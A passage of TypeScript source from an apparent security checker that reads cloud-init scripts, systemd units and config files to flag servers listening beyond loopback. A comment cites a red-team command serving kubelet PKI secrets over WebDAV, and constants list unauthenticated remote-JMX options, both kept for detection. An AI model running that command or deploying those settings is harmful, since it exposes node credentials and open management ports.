    const roots = [cwd, ...pythonPath];
    if (run.kind === "c") {
        const path = posix.join(cwd, "-c");
        return { label: `-c '${run.value}'`, path, files: [{ path, text: run.value }, ...unknownPath], roots };
    }
    const parts = run.value.split(".");
    for (const root of roots)
        for (const path of [posix.join(root, ...parts, "__main__.py"), `${posix.join(root, ...parts)}.py`]) {
            const text = fileText?.(path);
            if (text === undefined) continue;
            const packages = parts.slice(0, path.endsWith("/__main__.py") ? parts.length : -1);
            const parents = packages.flatMap(
                (_, k) => pythonModuleFile(parts.slice(0, k + 1).join("."), path, [root], fileText, view) ?? [],
            );
            return { label: `-m ${run.value}`, path, files: [{ path, text }, ...parents, ...unknownPath], roots };
        }
    return undefined;
}

/**
 * A `KEY=VALUE` word of an unread program (an operand or an option's value: Kafka's `kafka-server-start.sh
 * server.properties --override listeners=PLAINTEXT://0.0.0.0:9092`, kafka.Kafka "--override: Optional property that
 * should override values set in server.properties file"), judged by the hosts of its list's items: an address of every
 * interface (with a port, or as a URL's host) under any key, since no client connects to "every address"; and any
 * address or URL that may be the node's own (mayBeNodeAddress) under a listen key (LISTEN or BIND in its name, or HOST,
 * ADDR, ADDRESS or IP last after a qualifier: Kafka's `listeners`, "Listener List ... Specify hostname as 0.0.0.0 to
 * bind to all interfaces. Leave hostname empty to bind to the default interface"; Elasticsearch `-E http.host=ADDR`);
 * and an address of every interface without a port (0.0.0.0, ::, [::], `*`) under any address key (a HOST, ADDR,
 * ADDRESS or IP word, bare too, or a listen key: Hydra's overrides `server.host=0.0.0.0 server.port=8080`, hydra.cc
 * "Override grammar": `key=value`, the port in a key of its own). An ADVERTISE key (`advertised.listeners`: what
 * clients are told to dial) or a client's setting (clientSetting, never one naming every address) is none, and so are
 * the shell's own assignments (`export NAME=VALUE`: bash(1) "export", judged as the environment they give:
 * environmentListeners).
 */
function settingBeyondLoopback(key: string, value: string, program: string): string[] {
    if (
        /advertise/i.test(key) ||
        clientSetting(key, program, value) ||
        /^(export|declare|typeset|local|readonly)$/.test(program)
    )
        return [];
    // A qualified HOST/ADDR/ADDRESS/IP last word (Elasticsearch `-E http.host=ADDR`, "Sets the address of this node for
    // HTTP traffic"; Hydra's `server.host=`) is the program's own unless clientSetting. A bare `host=` is as often a
    // client's (libpq "Keyword/Value Connection Strings" `host=... port=...`, Fluent Bit's output `-p host=`): there
    // only an every-address value counts, which no client dials.
    const listenKey = /(^|[._-])(listen|bind)/i.test(key) || /[._-](host|addr|address|ip)$/i.test(key);
    const addressKey = listenKey || key.split(/[^A-Za-z0-9]+/).some(w => /^(host|addr|address|ip)$/i.test(w));
    return listItems(value).filter(
        item =>
            (allAddresses(item) && (/:\d+$/.test(item) || addressKey)) ||
            (addressKey && item === "*") ||
            (listenKey && (isAddress(item) || /^[a-z][\w+.-]*:\/\//i.test(item)) && mayBeNodeAddress(item)),
    );
}

/**
 * A root program the pack does not read (no SERVERS reader, or an interpreter running a script of its own) that any
 * of its words or its environment may make listen beyond loopback: fail closed, as the pack cannot say what it
 * serves; bound to loopback it serves only the node's own processes. Beyond loopback (mayBeNodeAddress) is:
 * - allAddressesValue as the value of any option (short or long), or with a port anywhere; EMPTY_HOST as an operand;
 * - a HOST:PORT or [ADDR]:PORT word (isHostPort: `websockify [options] [source_addr:]source_port target_addr:
 *   target_port`, websockify(1)), unless the option before it names a client's far end (REMOTE_END_OPTION);
 * - any value of a LISTEN_OPTION (the interface `lo` is loopback), and an address (isAddress) as the value of any
 *   option, short or long, of a LISTENER_PROGRAM (npm http-server "-a Address to use (defaults to 0.0.0.0)"), a
 *   port option's aside;
 * (what its environment makes it listen on is environmentListeners'). One bound to loopback only by a listen option (`filebrowser --address 127.0.0.1 -r /`) and named no node secret is a
 * listener too, which listenerOpenings leaves alone: what it serves stays with the node's own processes.
 */
function unreadListeners(program: string, args: readonly string[]): Listener[] {
    if (NOT_UNREAD_SERVERS.test(program) || knownClient(program, args)) return [];
    // A client setting (`--db-host ADDR`, java's `-Dspring.data.redis.host=ADDR`) and its value are no listen address.
    const clientOption = (w: string, next = "") =>
        /^-/.test(w) &&
        clientSetting(w.replace(/=[\s\S]*$/, ""), program, w.includes("=") ? w.slice(w.indexOf("=") + 1) : next);
    args = clientWords(program, args).filter(
        (w, i, all) =>
            !clientOption(w, all[i + 1]) && !(clientOption(all[i - 1] ?? "", w) && !(all[i - 1] ?? "").includes("=")),
    );
    const listenerProgram = LISTENER_PROGRAM.test(program);
    const addressOption = (name: string, value: string) =>
        LISTEN_OPTION.test(name) || (listenerProgram && isAddress(value) && !/port/i.test(name));
    // Bound to loopback by a listen option (not a --host or --ip one, which clients take too): a server only the
    // node's own processes reach, which keeps the directories it serves on the node (rootReads.ts: a served program is
    // judged by its listeners, not by the keepers' rule). A node secret named to it stays with the keepers' rule,
    // refused on loopback too (round 47: `rclone serve webdav /var/lib/kubelet/pki --addr 127.0.0.1:8081`).
    const namesSecret = args
        .map(w => w.replace(/^--?[\w.-]+=/, ""))
        .some(w => w.startsWith("/") && insideNodeSecrets(w));
    const loopback = namesSecret
        ? []
        : args.flatMap((w, i) => {
              const option = /^(--?[\w.-]+)=(.*)$/.exec(w);
              const [name, value] = option ? [option[1], option[2]] : [args[i - 1] ?? "", w];
              return /^-/.test(name) &&
                  (option !== null || !w.startsWith("-")) &&
                  addressOption(name, value) &&
                  !/host|(^|-)ip$/i.test(name) &&
                  loopbackOnly([/interface/i.test(name) ? interfaceAddress(value) : value])
                  ? [value]
                  : [];
          });
    const addresses = args.flatMap((w, i) => {
        const option = /^(--?[\w.-]+)=(.*)$/.exec(w);
        const [name, value] = option ? [option[1], option[2]] : [args[i - 1] ?? "", w];
        const isOption = /^-/.test(name);
        const optionValue = option !== null || !w.startsWith("-");
        const setting = commandLineSetting(args, i);
        const kestrel = setting && kestrelListens(setting.key, setting.value);
        if (kestrel) return kestrel;
        const beyondLoopback =
            (allAddresses(value) && (/:\d+$/.test(value) || isOption)) ||
            (EMPTY_HOST.test(value) && !isOption) ||
            (isOption && optionValue && EMPTY_HOST_URI.test(value) && !REMOTE_END_OPTION.test(name)) ||
            (isHostPort(value) && !(isOption && REMOTE_END_OPTION.test(name)) && mayBeNodeAddress(value)) ||
            (isOption &&
                optionValue &&
                addressOption(name, value) &&
                mayBeNodeAddress(value) &&
                !(/interface/i.test(name) && value === "lo"));
        const keyValue = /^([A-Za-z_][\w.-]*)=(.+)$/.exec(w);
        return [
            ...(beyondLoopback ? [value] : []),
            ...(keyValue ? settingBeyondLoopback(keyValue[1], keyValue[2], program) : []),
        ];
    });
    const binds = addresses.length > 0 ? addresses : loopback;
    return binds.length === 0 ? [] : [{ server: program, binds, serves: { unread: program } }];
}

/**
 * A command's servers as their SERVERS readers judge them, and its program with its arguments when no reader judges it
 * (`unread`: an interpreter running a script no reader knows, a program with no reader, or one only `partial` readers
 * read) and root runs it itself,
 * not a launcher (shell.ts launchedCommand: its command line is judged as the command it launches, as the user it
 * runs as) nor a NOT_UNREAD_SERVERS program nor python running NON_SERVING_MODULES: the fail-closed rule's case
 * (unreadListeners).
 */
function readServers(
    words: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    root: boolean,
    view: ScriptView,
): { listeners: Listener[]; unread?: { program: string; args: readonly string[] } } {
    const name = posix.basename(words[0] ?? "");
    const busybox = /^(busybox|toybox)$/.test(name);
    const [program, args] = busybox ? [posix.basename(words[1] ?? ""), words.slice(2)] : [name, words.slice(1)];
    const servers = SERVERS.filter(s => s.names.test(program) && (busybox || !s.busybox));
    const command = busybox ? words[1] : words[0];
    const found = servers.map(s => ({
        partial: s.partial,
        listeners: s.read(args, cwd, program, fileText, view, command),
    }));
    // A program user data built from sources (builtPrograms): as the runner's `run` of them. `dotnet FILE.dll` runs FILE.
    const PATH_DIRS = ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin", "/root/go/bin"];
    const executable = program === "dotnet" ? args.find(w => !w.startsWith("-") && /\.dll$/i.test(w)) : command;
    const built =
        executable === undefined
            ? []
            : executable.includes("/")
              ? builtListeners(servedDirectory(executable, cwd), view)
              : PATH_DIRS.flatMap(d => builtListeners(posix.join(d, executable), view))
                    .slice(0, 1)
                    .flat();
    const listeners = [...found.flatMap(f => f.listeners), ...built];
    const unread =
        found.every(f => f.listeners.length === 0 || f.partial) &&
        (servers.every(s => s.partial) || INTERPRETERS.test(program)) &&
        !(/^python[0-9.]*$/.test(program) && NON_SERVING_MODULES.test(pythonModule(args) ?? "")) &&
        root &&
        launchedCommand(words) === undefined &&
        !NOT_UNREAD_SERVERS.test(program);
    return { listeners, ...(unread ? { unread: { program, args } } : {}) };
}

/**
 * The listeners of a command the node runs (SERVERS, else, run as `root`, unreadListeners), `cwd` its working
 * directory when known, `fileText` what user data wrote to a file. The fail-closed rule is root's, as round 35
 * decided a non-root NoNewPrivileges gateway on `:443` (redteam35-nsec.test.ts) clean.
 */
function commandListeners(
    words: readonly string[],
    cwd: string | undefined,
    fileText?: (path: string) => string | undefined,
    root = true,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const { listeners, unread } = readServers(words, cwd, fileText, root, view);
    return unread
        ? [
              ...listeners,
              ...unreadListeners(unread.program, unread.args),
              ...appSettingsListeners(words[0] ?? "", unread, cwd, fileText, view),
          ]
        : listeners;
}

/** The ASP.NET Core settings files of a content root: appsettings.json and appsettings.{Environment}.json. */
const APP_SETTINGS_FILE = /(^|\/)appsettings(\.[^/]+)?\.json$/i;
/** The built-in environment names (MS Learn "Use multiple environments in ASP.NET Core"). */
const BUILT_IN_ENVIRONMENTS = ["Development", "Staging", "Production"];

/**
 * Where a root program the pack does not read listens by ASP.NET Core configuration files (any program may be an
 * ASP.NET Core app: `dotnet App.dll`, or an apphost executable, which `dotnet publish` produces by default: MS Learn
 * "dotnet publish", ".NET application publishing overview"), their keys judged as every provider's are (kestrelListens):
 * - appsettings.json and appsettings.{Environment}.json (MS Learn "Configuration in ASP.NET Core", default application
 *   configuration) in its content root: the host's `contentRoot` setting (MS Learn "ASP.NET Core Web Host" / ".NET
 *   Generic Host", Content root: `--contentRoot`, ASPNETCORE_CONTENTROOT / DOTNET_CONTENTROOT), else the working
 *   directory ("the result of GetCurrentDirectory()"); and its own directory (the .dll's, the executable's), where an
 *   app may set it. A CONTENTROOT variable of a value the pack cannot compute: every file user data writes so named.
 * - The environment "can be set to any value" (MS Learn "Use multiple environments in ASP.NET Core": DOTNET_ENVIRONMENT,
 *   ASPNETCORE_ENVIRONMENT, the command line's `environment`): the command line's when given, else the one a systemd
 *   unit's fully known environment gives (unitAspNetEnvironments: Production when it sets none), else every
 *   appsettings.*.json user data writes there (a shell's environment is cloud-init's, not fully known). A `dotnet`
 *   app's files are also probed by name (appsettings.json, the environment named or each built-in one:
 *   BUILT_IN_ENVIRONMENTS), a tree user data changed failing closed; any other program's are only those user data
 *   writes (a `cd` into a changed tree is not a .NET app's sign).
 * - `dotnet run [--project PATH]` (MS Learn "dotnet run"; `-p` is --property) runs the project in PATH (a project
 *   file's directory; else the working directory), with its Properties/launchSettings.json's profile (`--launch-profile
 *   NAME`/`-lp NAME`, else the first whose commandName is Project; none with --no-launch-profile): its applicationUrl
 *   (ASPNETCORE_URLS) and environmentVariables.
 * A file user data does not write is the app's own: with no endpoint configured, "Kestrel binds to
 * http://localhost:5000" (MS Learn "Configure endpoints for the ASP.NET Core Kestrel web server"). One written then
 * changed in a way the pack cannot compute (readConfig), or that is not JSON, may hold any setting: every address, as
 * such an EnvironmentFile= (environmentListeners).
 */
function appSettingsListeners(
    command: string,
    { program, args }: { program: string; args: readonly string[] },
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const resolve = (path: string) =>
        path.startsWith("/") ? posix.normalize(path) : cwd === undefined ? undefined : posix.resolve(cwd, path);
    const settings = args.flatMap((_, i) => commandLineSetting(args, i) ?? []);
    const setting = (key: string) => settings.filter(s => configurationKey(s.key) === key).map(s => s.value);
    const dll = program === "dotnet" ? args.find(w => /\.dll$/i.test(w)) : undefined;
    const dotnetRun = program === "dotnet" ? dotnetRunProject(args, cwd) : undefined;
    const run = dotnetRun !== undefined;
    const runArgs = dotnetRun?.runArgs ?? args;
    const runOption = (...names: string[]) => dotnetRun?.option(...names);
    const project = dotnetRun?.project;
    const ownDirectory = dll ?? (command.includes("/") ? command : undefined);
    const variableRoots = ["ASPNETCORE_CONTENTROOT", "DOTNET_CONTENTROOT"].flatMap(v => view.environment.get(v) ?? []);
    const roots = new Set(
        [
            cwd,
            ownDirectory && resolve(posix.dirname(ownDirectory)),
            project,
            ...setting("contentroot").map(resolve),
            ...variableRoots,
        ].filter((r): r is string => r !== undefined),
    );
    const writtenSettings = [...(view.written?.() ?? [])].filter(path => APP_SETTINGS_FILE.test(path));
    const fromCommandLine = setting("environment");
    const named = fromCommandLine.length > 0 ? fromCommandLine : (view.aspNetEnvironments ?? []);
    const files = new Set([
        ...[...(dll !== undefined || run ? roots : [])].flatMap(root =>
            [...(named.length > 0 ? named : BUILT_IN_ENVIRONMENTS), ""].map(e =>
                posix.join(root, `appsettings${e === "" ? "" : `.${e}`}.json`),
            ),
        ),
        ...writtenSettings.filter(
            path =>
                variableRoots.includes(undefined) ||
                (roots.has(posix.dirname(path)) &&
                    (named.length === 0 ||
                        /\/appsettings\.json$/i.test(path) ||
                        named.some(e => posix.basename(path) === `appsettings.${e}.json`))),
        ),
    ]);
    const app = dll ?? (run ? `run (${project ?? "its working directory"})` : "");
    const where = `${program}${app === "" ? "" : ` ${app}`}`;
    // Each leaf of the JSON as its configuration key (`Kestrel:Endpoints:Http:Url`), arrays by index.
    const leaves = (v: unknown, key: string): [string, string][] =>
        v !== null && typeof v === "object"
            ? Object.entries(v).flatMap(([k, x]) => leaves(x, key === "" ? k : `${key}:${k}`))
            : [[key, String(v)]];
    const json = (text: string | null): unknown => {
        try {
            return text === null ? undefined : JSON.parse(text.replace(/^\s*\/\/.*$/gm, ""));
        } catch {
            return undefined;
        }
    };
    const fileListeners = (file: string, binds: (parsed: unknown) => string[]): Listener[] => {
        const text = readConfig(file, fileText, view);
        if (text === undefined) return [];
        const parsed = json(text);
        if (parsed === undefined)
            return [
                {
                    server: `${where} (its ${file}, which user data changes after writing it or the pack cannot read)`,
                    binds: [],
                    serves: { unread: program },
                },
            ];
        const found = binds(parsed);
        return found.length === 0
            ? []
            : [{ server: `${where} (its ${file})`, binds: found, serves: { unread: program } }];
    };
    const launchProfile = () => {
        if (project === undefined || runArgs.includes("--no-launch-profile")) return [];
        const chosen = runOption("--launch-profile", "-lp");
        return fileListeners(posix.join(project, "Properties/launchSettings.json"), parsed => {
            const profiles = Object.entries(obj(obj(parsed).profiles));
            const profile = obj(
                chosen !== undefined
                    ? profiles.find(([name]) => name === chosen)?.[1]
                    : profiles.find(([, p]) => obj(p).commandName === "Project")?.[1],
            );
            return [
                ...(typeof profile.applicationUrl === "string"
                    ? (kestrelListens("urls", profile.applicationUrl) ?? [])
                    : []),
                ...Object.entries(obj(profile.environmentVariables)).flatMap(
                    ([name, value]) => kestrelListens(name, String(value)) ?? [],
                ),
            ];
        });
    };
    return [
        ...[...files].flatMap(file =>
            fileListeners(file, parsed =>
                leaves(parsed, "").flatMap(([key, value]) => kestrelListens(key, value) ?? []),
            ),
        ),
        ...launchProfile(),
    ];
}

/**
 * A variable a script gives programs' environments: `program` the one it is given to, unset for every later program;
 * or (`file`) an environment file given to it (systemd.exec(5) EnvironmentFile=), read as the program starts.
 */
type GivenVariable = { name: string; value: string; program?: string } | { file: string; program?: string };

/** `NAME=VALUE` (`NAME+=VALUE` appends) as a variable. */
const assignment = (w: string) => ({
    name: w.slice(0, w.indexOf("=")).replace(/\+$/, ""),
    value: w.slice(w.indexOf("=") + 1),
});

/** Words split at spaces outside quotes, the quotes around a word dropped (systemd's and shlex's splitting alike). */
const quotedWords = (value: string) =>
    (value.match(/"[^"]*"|'[^']*'|\S+/g) ?? []).map(w => w.replace(/^(["'])(.*)\1$/, "$2"));

/**
 * The assignments of an Environment=, DefaultEnvironment= or `systemd-run -p Environment=` value (systemd.exec(5)
 * Environment=: "Takes a space-separated list of variable assignments", quotes around one holding spaces).
 */
const environmentAssignments = (value: string) =>
    quotedWords(value)
        .filter(w => w.includes("="))
        .map(assignment);

/**
 * The variables of an environment file (systemd.exec(5) EnvironmentFile=: "newline-separated variable assignments.
 * Empty lines, lines without an "=" separator, or lines starting with ";" or "#" will be ignored"; quotes are removed).
 */
const environmentFileVariables = (text: string) =>
    text.split(/\r?\n/).flatMap(line => {
        const m = /^\s*(?:export\s+)?([A-Za-z_]\w*)\s*=\s*(.*?)\s*$/.exec(line);
        return m ? [{ name: m[1], value: m[2].replace(/^(["'])(.*)\1$/, "$2") }] : [];
    });

/**
 * The variables user data puts in programs' environments (environmentListeners reads the listen settings among them):
 * - given to one program: assignments before its command or after `env` (bash(1), "Simple Command Expansion": "the
 *   variable assignments ... are added to the environment of the executed command"), systemd-run's -E/--setenv and its
 *   -p Environment= and -p EnvironmentFile= properties (systemd-run(1) "-p, --property=: Sets a property on the scope
 *   or service unit that is created. This option takes an assignment in the same format as systemctl(1)'s set-property
 *   command"), and a unit's (unitEnvironment);
 * - given to every later program: `export NAME=VALUE` (`declare -x`), an assignment whose name is exported bare, every
 *   assignment after `set -a` (bash(1) "set": "-a Each variable or function that is created or modified is given the
 *   export attribute"), `systemctl set-environment` (systemctl(1): "Set one or more systemd manager environment
 *   variables, as specified on the command line", which every unit started later inherits: systemd.exec(5)
 *   "Environment Variables in Spawned Processes") and DefaultEnvironment= (systemd-system.conf(5): "Configures
 *   environment variables passed to all executed processes"). The pack does not follow which programs come later: any
 *   may inherit them.
 * `shellTexts` are read as shell, `texts` for the manager's DefaultEnvironment= (a heredoc's or write_files' content).
 */
function environmentGiven(shellTexts: readonly string[], texts: readonly string[]): GivenVariable[] {
    const out: GivenVariable[] = [];
    for (const text of texts)
        for (const [, value] of text.matchAll(/^\s*DefaultEnvironment\s*=\s*(.*)$/gm))
            out.push(...environmentAssignments(value));
    for (const text of shellTexts) {
        const commands = shellCommands(text).map(c => c.words.map(w => w.replace(/\0/g, "")));
        const allExported = commands.some(
            ws =>
                ws[0] === "set" &&
                ws.slice(1).some((w, i) => /^-[a-zA-Z]*a/.test(w) || (w === "-o" && ws[i + 2] === "allexport")),
        );
        const exportedNames = new Set(
            commands.filter(ws => ws[0] === "export").flatMap(ws => ws.slice(1).filter(w => /^[A-Za-z_]\w*$/.test(w))),
        );
        for (const words of commands) {
            const { start, wrappers } = wrappersOf(words);
            const program = start < words.length ? posix.basename(words[start]) : undefined;
            const exporting =
                words[0] === "export" ||
                (/^(declare|typeset|local)$/.test(words[0] ?? "") && words.some(w => /^-[a-zA-Z]*x/.test(w)));
            words.forEach((w, i) => {
                if (!isAssignment(w)) return;
                const variable = assignment(w);
                if (exporting && i > 0) out.push(variable);
                else if (i < start && program) out.push({ ...variable, program });
                else if (program === undefined && (allExported || exportedNames.has(variable.name))) out.push(variable);
            });
            for (const use of program ? wrappers.filter(u => u.name === "systemd-run") : [])
                out.push(
                    ...[
                        ...optionValues(use.options, "-E", "--setenv")
                            .filter(v => v.includes("="))
                            .map(assignment),
                        ...systemdRunProperties(use, "Environment").flatMap(environmentAssignments),
                    ].map(v => ({ ...v, program })),
                    ...systemdRunProperties(use, "EnvironmentFile").map(f => ({ file: f.replace(/^-/, ""), program })),
                );
            const operands = words.slice(start + 1).filter(w => !w.startsWith("-"));
            if (program === "systemctl" && operands[0] === "set-environment")
                out.push(
                    ...operands
                        .slice(1)
                        .filter(w => w.includes("="))
                        .map(assignment),
                );
        }
    }
    const seen = new Set<string>();
    return out.filter(v => !seen.has(JSON.stringify(v)) && !!seen.add(JSON.stringify(v)));
}

/**
 * What systemd units give the programs of their Exec lines (systemd.exec(5) Environment=, EnvironmentFile=), from
 * [Service] in the unit's file and in every drop-in that extends it (systemd.unit(5): "Along with a unit file foo.service,
 * a "drop-in" directory foo.service.d/ may exist. All files with the suffix ".conf" from this directory will be merged
 * in the alphanumeric order", the type's `service.d/` and each dash prefix's `foo-.service.d/` too), whichever of them
 * holds the Exec line.
 */
function unitEnvironment(units: readonly { path: string; text: string }[]): GivenVariable[] {
    const files = units.map(({ path, text }) => {
        const name = UNIT_PATH.exec(path)?.[2] ?? path;
        const service = text
            .replace(/\\\r?\n/g, " ")
            .split(/^\s*(?=\[[A-Za-z]+\]\s*$)/m)
            .filter(section => /^\s*\[Service\]/.test(section))
            .join("\n");
        const values = (key: string) =>
            [...service.matchAll(new RegExp(`^\\s*${key}\\s*=\\s*(.*)$`, "gm"))].map(m => m[1]);
        return {
            name,
            programs: [...service.matchAll(/^\s*Exec\w*\s*=\s*[-@:+!|]*(\S+)/gm)].map(m => posix.basename(m[1])),
            given: [
                ...values("Environment").flatMap(environmentAssignments),
                ...values("EnvironmentFile").map(f => ({ file: f.trim().replace(/^-/, "") })),
            ],
        };
    });
    const extendsUnit = (dropIn: string, unit: string) => {
        const type = /\.([a-z]+)$/.exec(unit)?.[1] ?? "";
        const prefix = new RegExp(`-\\.${type}$`).test(dropIn) ? dropIn.slice(0, -type.length - 1) : undefined;
        return dropIn === unit || dropIn === type || (prefix !== undefined && unit.startsWith(prefix));
    };
    return [...new Set(files.map(f => f.name))].flatMap(unit => {
        const own = files.filter(f => extendsUnit(f.name, unit));
        // A unit user data only extends (drop-ins) runs its package's ExecStart: a JVM launcher's (JvmLauncher units),
        // else a program the pack does not know, named by the unit (packagedUnitCommand).
        const programs = new Set(own.flatMap(f => f.programs));
        if (programs.size === 0) jvmPackagedUnitPrograms(unit.replace(/\.d$/, "")).forEach(p => programs.add(p));
        if (programs.size === 0) programs.add(unit.replace(/\.d$/, ""));
        return own.flatMap(f => f.given).flatMap(v => [...programs].map(program => ({ ...v, program })));
    });
}

/**
 * The ASP.NET Core environment names a systemd unit's Exec command gets (MS Learn "Use multiple environments in
 * ASP.NET Core": the environment comes from DOTNET_ENVIRONMENT and ASPNETCORE_ENVIRONMENT, "Production: The default
 * if DOTNET_ENVIRONMENT and ASPNETCORE_ENVIRONMENT have not been set"). A unit's process has the manager's
 * environment and its own Environment=/EnvironmentFile= only (systemd.exec(5) "Environment Variables in Spawned
 * Processes"): the manager's DefaultEnvironment= and set-environment (environmentGiven's variables for every program,
 * the script's exports over-read with them) and the unit's (unitEnvironment). Every value any of them sets counts;
 * none is Production. Undefined, leaving appSettingsListeners to read every settings file, for a command that is not
 * the Exec line of a unit user data writes, a value the pack cannot compute, an environment file user data does not
 * write in full, or a manager importing the script's own variables (`importsEnvironment`).
 */
function unitAspNetEnvironments(
    words: readonly string[],
    how: string,
    units: readonly { path: string; text: string }[],
    given: readonly GivenVariable[],
    importsEnvironment: boolean,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): string[] | undefined {
    if (importsEnvironment || !units.some(u => how.startsWith(`${u.path}: `))) return undefined;
    const program = posix.basename(words[0] ?? "");
    const names = new Set<string>();
    for (const v of [...given.filter(g => g.program === undefined), ...unitEnvironment(units)]) {
        if (v.program !== undefined && v.program !== program) continue;
        const text = "file" in v ? readConfig(v.file, fileText, view) : "";
        if (text == null) return undefined;
        for (const { name, value } of "file" in v ? environmentFileVariables(text) : [v])
            if (/^(ASPNETCORE|DOTNET)_ENVIRONMENT$/.test(name)) {
                if (/[$%`\\]/.test(value)) return undefined;
                names.add(value);
            }
    }
    return names.size > 0 ? [...names] : ["Production"];
}

/**
 * The JVM's own option variables, read wherever they reach a JVM whatever the program-name prefix rule says for other
 * exported variables: JAVA_TOOL_OPTIONS (JVMTI "The JAVA_TOOL_OPTIONS Environment Variable") and JDK_JAVA_OPTIONS
 * (java(1) "Using the JDK_JAVA_OPTIONS Launcher Environment Variable": prepended to the java launcher's command line)
 * before the command line, HotSpot's _JAVA_OPTIONS after it (openjdk hotspot arguments.cpp
 * parse_java_options_environment_variable, parsed last: its settings win).
 */
const JVM_OPTION_VARIABLES = /^(JAVA_TOOL_OPTIONS|JDK_JAVA_OPTIONS|_JAVA_OPTIONS)$/;
/**
 * Kafka's scripts, which run bin/kafka-run-class.sh (kafka-server-start.sh, connect-distributed.sh,
 * zookeeper-server-start.sh ...; Confluent's without `.sh`).
 */
const KAFKA_SCRIPT = /^(kafka-[\w.-]+|connect-(distributed|standalone)|zookeeper-server-start)(\.sh)?$/;
/**
 * Apache Kafka bin/kafka-run-class.sh: KAFKA_JMX_OPTS, when empty, is remote JMX without authentication or SSL, and a
 * JMX_PORT adds `-Dcom.sun.management.jmxremote.port=$JMX_PORT` (Confluent "Configure JMX for Monitoring": "JMX_PORT:
 * The port that JMX listens on", KAFKA_JMX_OPTS' defaults "jmxremote.authenticate=false: Indicates that authentication
 * is off by default"); it runs `"$JAVA" $KAFKA_HEAP_OPTS $KAFKA_JVM_PERFORMANCE_OPTS $KAFKA_GC_LOG_OPTS $KAFKA_JMX_OPTS
 * $KAFKA_LOG4J_OPTS -cp ... $KAFKA_OPTS`, so KAFKA_OPTS' settings win.
 */
const KAFKA_DEFAULT_JMX_OPTS = [
    "-Dcom.sun.management.jmxremote",
    "-Dcom.sun.management.jmxremote.authenticate=false",
    "-Dcom.sun.management.jmxremote.ssl=false",
];
/**
 * Where a JVM launcher script finds its files (JvmLauncher's `sources`, `optionFiles`): `at(path)` an absolute path as
 * is, a relative one under the installation the script is in (its directory's parent: Tomcat's CATALINA_HOME, ZooKeeper's
 * ZOOBINDIR/.., ES_HOME) or, when the pack cannot tell that (a script run by its name on PATH), every file user data
 * writes ending so; `options(dir)` the `*.options` files user data writes in such a directory.
 */
interface JvmLauncherFiles {
    at: (path: string) => string[];
    options: (dir: string) => string[];
}
/** A JVM launcher script (JVM_LAUNCHER_SCRIPTS); `value` is a variable's last value, "" unset. */
interface JvmLauncher {
    names: RegExp;
    /** The variables it reads whatever its name. */
    reads: RegExp;
    /** Shell files it sources before starting the JVM (`. FILE`): their assignments join its environment. */
    sources?: (files: JvmLauncherFiles, value: (name: string) => string) => string[];
    /** Files of JVM options, one or more a line (`#` comments; Elasticsearch's `N:`/`N-M:` JDK version prefixes). */
    optionFiles?: (files: JvmLauncherFiles, value: (name: string) => string) => string[];
    /** The systemd units its package installs, which `systemctl start` runs as `exec` (a unit user data does not write). */
    units?: { names: RegExp; exec: string[] };
    /** The JVM options it passes, from its variables and arguments. */
    options: (value: (name: string) => string, args: readonly string[]) => string[];
}
/** Remote JMX without authentication or TLS on `port` (Solr's ENABLE_REMOTE_JMX_OPTS). */
const openJmx = (port: string) => [
    "-Dcom.sun.management.jmxremote",
    "-Dcom.sun.management.jmxremote.authenticate=false",
    "-Dcom.sun.management.jmxremote.ssl=false",
    `-Dcom.sun.management.jmxremote.port=${port}`,
];
/**
 * Launcher scripts that start a JVM with the java launcher (`"$JAVA" ...`), each with the variables it reads whatever
 * its name, the files it sources or reads options from, and the JVM options it makes of them:
 * - Kafka's (KAFKA_SCRIPT: kafka-run-class.sh's KAFKA_DEFAULT_JMX_OPTS, JMX_PORT, KAFKA_OPTS);
 * - ZooKeeper's bin/zkServer.sh: with JMXDISABLE unset or "false" and JMXPORT set, `ZOOMAIN="-D...jmxremote
 *   -Dcom.sun.management.jmxremote.port=$JMXPORT -Dcom.sun.management.jmxremote.authenticate=$JMXAUTH ..."`, JMXAUTH
 *   false when unset, after `$JVMFLAGS` (SERVER_JVMFLAGS then JVMFLAGS): `"$JAVA" ... $JVMFLAGS $ZOOMAIN "$ZOOCFG"`
 *   (JMXHOSTNAME only sets java.rmi.server.hostname); bin/zkEnv.sh sources `$ZOOCFGDIR/zookeeper-env.sh` and
 *   `$ZOOCFGDIR/java.env`, ZOOCFGDIR defaulting to `$ZOOBINDIR/../conf` (else `../etc/zookeeper`);
 * - Tomcat's bin/catalina.sh (startup.sh runs it): `"$_RUNJAVA" ... $JAVA_OPTS $CATALINA_OPTS`, its header's
 *   "CATALINA_OPTS (Optional) Java runtime options used when the "start", "run" or "debug" command is executed", after
 *   sourcing `$CATALINA_BASE/bin/setenv.sh` (else `$CATALINA_HOME/bin/setenv.sh`; CATALINA_BASE defaults to
 *   CATALINA_HOME, the script's installation), `jpda` adding `-agentlib:jdwp=transport=$JPDA_TRANSPORT,
 *   address=$JPDA_ADDRESS,server=y,suspend=$JPDA_SUSPEND` (default localhost:8000) unless JPDA_OPTS replaces it;
 * - Elasticsearch's bin/elasticsearch (the package's elasticsearch.service runs bin/systemd-entrypoint, which execs
 *   it): Elasticsearch "Set JVM options", the `$ES_PATH_CONF/jvm.options` file and `jvm.options.d/*.options` files
 *   (ES_PATH_CONF: `config/` of the archive, /etc/elasticsearch of the packages) then ES_JAVA_OPTS;
 * - Solr's bin/solr: it sources SOLR_INCLUDE, else the first solr.in.sh of /etc/default, its bin/ and /opt/solr
 *   (bin/solr); SOLR_OPTS, `-a "OPTIONS"`, and with ENABLE_REMOTE_JMX_OPTS=true remote JMX with authentication and
 *   TLS off on RMI_PORT (default 18983: Solr Reference Guide "JMX with Solr");
 * - Cassandra's bin/cassandra: it sources `$CASSANDRA_CONF/cassandra-env.sh` (CASSANDRA_CONF default its
 *   installation's conf/, the packages' /etc/cassandra), which ends `JVM_OPTS="$JVM_OPTS $JVM_EXTRA_OPTS"`, and reads
 *   the conf/jvm*.options files (Cassandra 4: jvm-server.options, jvm11-server.options ...).
 */
const JVM_LAUNCHER_SCRIPTS: JvmLauncher[] = [
    {
        names: KAFKA_SCRIPT,
        reads: /^(JMX_PORT|KAFKA_\w+)$/,
        options: value => [
